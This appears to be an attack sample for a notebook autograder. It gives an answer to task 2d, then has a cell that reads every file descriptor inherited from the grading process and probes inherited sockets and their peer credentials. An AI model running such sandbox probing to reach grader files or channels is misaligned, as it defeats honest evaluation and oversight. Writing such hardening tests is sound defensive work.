# /// attack
# tries = "uses every descriptor that was open before the notebook"
# total = 2
# [parts]
# 2d = "right"
# ///

# %%
def aufgabe_2d(W, x, grad_y):
    return W.T @ grad_y

# %%
import os
import socket

for name in sorted(os.listdir("/proc/self/fd"), key=int):
    try:
        print(name, os.readlink(f"/proc/self/fd/{name}"), os.fstat(int(name)))
        print(os.pread(int(name), 10_000, 0))
    except OSError as error:
        print(error)
for number in range(3, 256):
    try:
        end = socket.socket(fileno=os.dup(number))
        print(number, end.getsockname(), end.getpeername(), end.getsockopt(1, 17, 12))
    except OSError:
        continue
